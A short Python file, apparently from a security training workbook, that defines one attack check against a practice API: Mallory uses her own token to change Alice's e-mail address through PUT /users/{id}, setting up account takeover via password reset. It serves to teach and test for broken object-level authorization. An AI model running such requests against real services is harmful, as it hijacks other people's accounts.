"""Mallory writes her own address into Alice's account, and could then ask for a new password.

It works where the id in the address says whose account is changed, and the token only opens doors.
"""

from workbook.attacking import Api, NoSuchRoute, attack


@attack(
    "Change somebody else's e-mail address",
    route="PUT /users/{id}",
    closes=8,
    see="OWASP API1:2023",
    catches="AZ-02 AZ-21",
)
def change_anothers_email(api: Api) -> str | None:
    if api.put("/users/nobody", json={}, caller="mallory").status in (404, 405):
        raise NoSuchRoute("PUT /users/{id}")
    alice, mallory = api.alice, api.mallory
    body = {"full_name": alice.full_name, "email": "mallory@example.net"}
    path = f"/users/{alice.id}"
    api.put(path, json=body, token=mallory.token, caller=mallory.username)
    seen = api.get("/users/me", token=alice.token, caller=alice.username)
    got = "Alice's account, with Mallory's address for lost passwords"
    return got if body["email"] in seen.text else None
